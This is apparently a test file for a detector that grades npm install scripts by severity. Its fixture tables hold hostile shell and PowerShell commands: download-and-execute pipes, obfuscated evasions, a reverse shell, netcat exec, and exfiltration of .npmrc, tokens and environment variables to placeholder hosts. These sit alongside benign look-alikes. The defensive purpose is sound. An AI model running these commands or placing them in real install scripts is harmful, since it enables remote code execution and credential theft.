import { describe, expect, it } from 'vitest';
import { gradeInstallScript } from '../../src/checks/install-script-grade.js';

/**
 * One table: malicious install scripts (and evasions of each) next to the benign look-alikes that must stay
 * low. The malicious rows are variants of the attack classes, not copies of one fixture's string.
 */
const critical: Array<[string, string]> = [
  ['curl piped to sh', 'curl -fsSL https://evil.example/x.sh | sh'],
  ['wget piped to bash via sudo', 'wget -qO- http://1.2.3.4/p | sudo bash'],
  ['curl piped to a full path shell', 'curl -s https://x.example/a | /bin/bash -s -- --quiet'],
  ['download piped to node', 'curl https://cdn.example/p.js | node'],
  ['download piped to python', 'wget -O - https://x.example/a.py | python3'],
  ['command substitution', 'sh -c "$(curl -fsSL https://x.example/i.sh)"'],
  ['process substitution', 'bash <(curl -s https://x.example/i.sh)'],
  ['backticks', 'eval `wget -qO- https://x.example/i`'],
  ['download, chmod, run', 'curl -o /tmp/.x https://x.example/miner && chmod +x /tmp/.x && /tmp/.x -k'],
  ['download then ./run', 'wget https://x.example/b -O b; chmod 755 b; ./b'],
  ['split command name with quotes', 'c""url -s https://x.example/i | s""h'],
  ['split command name with backslash', 'cu\\rl -s https://x.example/i | ba\\sh'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's ${IFS}, not a template
  ['IFS instead of spaces', 'curl${IFS}-s${IFS}https://x.example/i|sh'],
  [
    'powershell download cradle',
    'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'https://x.example/a\')"',
  ],
  [
    'powershell with backtick escapes',
    'powershell -c "I`EX (New-Object Net.WebClient).Down`loadString(\'http://x/a\')"',
  ],
  ['powershell encoded command', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
  [
    'iwr and start an exe',
    'powershell -Command "iwr http://x.example/a.exe -OutFile a.exe; Start-Process a.exe"',
  ],
  ['certutil download', 'certutil -urlcache -split -f http://x.example/a.exe a.exe && a.exe'],
  ['plain download', 'curl -s -o data.bin https://x.example/data.bin'],
  [
    'node -e with https',
    "node -e \"require('https').get('https://x.example/p', r => r.pipe(process.stdout))\"",
  ],
  ['node -e with fetch', 'node -e "fetch(\'https://x.example/c\').then(r=>r.text()).then(eval)"'],
  ['node --eval with net', "node --eval \"require('net').connect(4444,'1.2.3.4')\""],
  [
    'python -c with urllib',
    'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://x/a\').read())"',
  ],
  ['base64 decoded and run', 'echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh'],
  ['node -e eval of base64', "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\""],
  ['hex escapes', 'node -e "\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\\x27\\x66\\x73\\x27\\x29"'],
  ['reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['netcat exec', 'nc 1.2.3.4 4444 -e /bin/sh'],
  ['npmrc sent out', 'curl -X POST -d @$HOME/.npmrc https://x.example/collect'],
  ['env sent out', 'env | curl -X POST --data-binary @- https://x.example/e'],
  ['token in URL', 'curl "https://x.example/?t=$NPM_TOKEN"'],
];

const high: Array<[string, string]> = [
  ['reads ssh keys', 'cat ~/.ssh/id_rsa > key.txt'],
  ['npm publish from install', 'npm publish --access public'],
  ['inline node starting processes', "node -e \"require('child_process').execSync('whoami')\""],
  ['the whole environment into a file', 'printenv > /tmp/.e'],
  ['the whole environment, through a pipe', 'printenv | grep -i key'],
  ['a secret variable by name', 'printenv STRIPE_API_KEY'],
  ['a secret among other names', 'printenv HOME PATH DEPLOY_TOKEN'],
  ['a cloud key by name', 'printenv AWS_ACCESS_KEY_ID'],
  ['one named variable piped on', 'printenv KUBECONFIG | nc collect.example 9000'],
];

const medium: Array<[string, string]> = [
  ['detached background process', 'nohup node worker.js &'],
  ['npx of another package', 'npx some-setup-tool'],
  ['unknown command', 'make all'],
  ['inline code that is not a local require', 'node -e "console.log(require(\'os\').platform())"'],
  // @kubernetes/client-node asks WSL for one path variable: an unknown command, not an environment dump.
  ['one named variable that is not a secret', 'printenv KUBECONFIG'],
];

const low: Array<[string, string]> = [
  ['node-gyp rebuild', 'node-gyp rebuild'],
  ['prebuild-install fallback to node-gyp', 'prebuild-install || node-gyp rebuild'],
  ['node-pre-gyp', 'node-pre-gyp install --fallback-to-build'],
  ['cmake-js', 'cmake-js compile'],
  ['node-gyp-build', 'node-gyp-build'],
  ['esbuild style install.js', 'node install.js'],
  ['script in a folder', 'node ./scripts/postinstall.js'],
  // protobufjs: Node adds the extension.
  ['script in a folder without its extension', 'node scripts/postinstall'],
  ['local script without its extension', 'node ./install'],
  ['core-js style guarded require', 'node -e "try{require(\'./postinstall\')}catch(e){}"'],
  ['opencollective', 'opencollective-postinstall || true'],
  ['husky', 'husky install'],
  ['patch-package', 'patch-package'],
  ['echo', 'echo "Thanks for installing!"'],
  [
    'es5-ext style guarded require with exit 0',
    'node -e "try{require(\'./_postinstall\')}catch(e){}" || exit 0',
  ],
  ['a URL in an echo is not a download', 'node install.js && echo see https://example.com/docs'],
];

describe('gradeInstallScript', () => {
  it.each(critical)('critical: %s', (_label, script) => {
    expect(gradeInstallScript(script).severity).toBe('critical');
  });
  it.each(high)('high: %s', (_label, script) => {
    expect(gradeInstallScript(script).severity).toBe('high');
  });
  it.each(medium)('medium: %s', (_label, script) => {
    expect(gradeInstallScript(script).severity).toBe('medium');
  });
  it.each(low)('low (benign look-alike): %s', (_label, script) => {
    expect(gradeInstallScript(script).severity).toBe('low');
  });

  it('names the behaviour, not just a severity', () => {
    const grade = gradeInstallScript('curl -fsSL https://evil.example/x.sh | sh');
    expect(grade.signals[0]?.id).toBe('download-exec');
    expect(grade.signals[0]?.reason).toMatch(/download into an interpreter/);
  });

  it('says what a benign script does in words', () => {
    expect(gradeInstallScript('node -e "try{require(\'./postinstall\')}catch(e){}"').signals[0]?.reason).toBe(
      'runs inline code that only loads a file of the package',
    );
    expect(gradeInstallScript('node scripts/install.js').signals[0]?.reason).toBe(
      'runs scripts/install.js from the package',
    );
  });

  it('a native build next to a download is still critical', () => {
    expect(gradeInstallScript('node-gyp rebuild && curl https://x.example/a | sh').severity).toBe('critical');
  });

  it('lists the package files a script runs', () => {
    expect(gradeInstallScript('node ./install.js && sh scripts/setup.sh').referencedFiles).toEqual([
      'install.js',
      'scripts/setup.sh',
    ]);
  });

  it('follows a script named without its extension, and still grades what else the command does', () => {
    expect(gradeInstallScript('node scripts/postinstall').referencedFiles).toEqual(['scripts/postinstall']);
    expect(gradeInstallScript('node scripts/postinstall && curl https://x.example/a | sh').severity).toBe(
      'critical',
    );
    // A bare word after node is not a file of the package, nor is a path hidden from the file list.
    expect(gradeInstallScript('node postinstall').severity).toBe('medium');
    expect(gradeInstallScript('NODE scripts/x').severity).not.toBe('low');
  });

  // Catastrophic backtracking would hang for minutes: the test's own timeout catches it, no timing asserted.
  it('grades hostile input aimed at its patterns without hanging', { timeout: 20_000 }, () => {
    const hostile = [
      `node -e ${'('.repeat(50_000)}`,
      `curl ${'-a '.repeat(30_000)}`,
      `${'| '.repeat(40_000)}sh`,
      `powershell ${'a'.repeat(100_000)}`,
      `${'\\x4'.repeat(40_000)}`,
      `nc ${' -'.repeat(40_000)}`,
      `printenv${' a'.repeat(40_000)}!`,
      `printenv ${'a_'.repeat(40_000)}`,
    ];
    for (const script of hostile) expect(gradeInstallScript(script).severity).toBeDefined();
  });
});
